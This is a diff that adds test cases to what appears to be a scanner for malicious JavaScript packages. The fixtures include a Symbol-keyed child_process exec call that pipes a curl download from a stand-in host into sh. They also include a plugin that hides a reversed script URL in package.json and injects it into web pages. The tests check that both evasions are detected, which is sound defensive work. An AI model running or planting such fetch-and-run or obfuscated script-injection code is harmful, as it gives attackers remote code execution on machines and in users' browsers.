@@ -1777,3 +1777,44 @@ module.exports = () => (req, res, next) => {
     expect(threatsOf(mw("'https://cdn.analytics-own.example/a.js'"))).toEqual([]);
   });
 });
+
+describe('values kept behind Symbol keys and reversed strings spread into characters', () => {
+  it('obj[KEY] = exec with KEY = Symbol(): the call through the same key is exec', () => {
+    expect(
+      rules({
+        'index.js': `const KEY = Symbol('runner');
+const host = {};
+host[KEY] = require('child_process').exec;
+host[KEY]('curl -s http://boot.sym-key.example/i.sh | sh');`,
+      }),
+    ).toContain('js.exec-download-pipe-shell');
+  });
+  it('a page script whose script address is kept reversed in a package.json field ([...s].reverse().join(""))', () => {
+    expect(
+      rules({
+        'package.json': JSON.stringify({
+          name: 'vite-plugin-hints-lite',
+          version: '1.0.0',
+          main: 'index.js',
+          hints: { beacon: [...'https://cdn.hints-static.example/rt/v2/hint.js'].reverse().join('') },
+        }),
+        'index.js': `const { beacon } = require('./package.json').hints;
+module.exports = () => ({ name: 'hints', transformIndexHtml() {
+  const src = [...beacon].reverse().join('');
+  return [{ tag: 'script', children: \`(function(d){var s=d.createElement('script');s.src=\${JSON.stringify(src)};d.head.appendChild(s)})(document)\`, injectTo: 'head' }];
+} });`,
+      }),
+    ).toContain('js.decoded-remote-script');
+  });
+  it('quiet: a page script that loads the plugin’s own script written out in the code', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `module.exports = () => ({ name: 'hints', transformIndexHtml() {
+  return [{ tag: 'script', children: "(function(d){var s=d.createElement('script');s.src='https://cdn.hints-static.example/rt/v2/hint.js';d.head.appendChild(s)})(document)", injectTo: 'head' }];
+} });`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
